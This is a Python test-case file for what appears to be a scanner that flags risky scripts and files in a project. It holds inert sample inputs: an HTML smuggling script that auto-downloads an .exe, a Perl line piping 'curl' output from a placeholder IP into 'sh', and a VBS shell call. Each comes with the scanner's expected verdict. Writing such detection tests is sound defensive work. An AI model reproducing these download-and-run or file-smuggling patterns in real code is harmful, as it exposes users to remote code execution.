"""Known answers for `artifact.desktop-scripts`."""

from seatrial.testing.case import Case

_SMUGGLING = (
    b"<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob('TVqQ')]));"
    b"a.download='x.exe';a.click()</script>"
)
_CHART = b"<html><div id=p></div><script>Plotly.newPlot('p', [{x: [1, 2], y: [3, 4]}])</script></html>"

CASES: tuple[Case, ...] = (
    Case(
        name="Visual Basic",
        files={"setup.vbs": b'CreateObject("WScript.Shell").Run "cmd /c echo inert"\n'},
        expect=("fail: runs programs through the script host of Windows",),
    ),
    Case(
        name="a shortcut",
        files={"README.lnk": b"L\0\0\0\1\x14\2\0" + bytes(80)},
        expect=("review: is a shortcut, which runs once somebody opens it",),
    ),
    Case(
        name="a page that hands over a program",
        files={"report.html": _SMUGGLING},
        expect=("fail: hands over a file that is spelt out in the page",),
    ),
    Case(
        name="Node that starts programs",
        files={"run.mjs": b"import { execSync } from 'node:child_process';\nexecSync('npm run build');\n"},
        expect=("review: starts programs",),
    ),
    Case(
        name="a command inside Perl",
        files={"convert.pl": b"#!/usr/bin/perl\nsystem('curl -s http://203.0.113.9/i | sh');\n"},
        expect=("fail: fetches a program and runs it",),
    ),
    Case(name="a chart", files={"index.html": _CHART}, good=True),
    Case(
        name="a picture",
        files={"logo.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"},
        good=True,
    ),
    Case(name="a demo's batch file", files={"run.bat": b"@echo off\r\npython app.py\r\n"}, good=True),
)
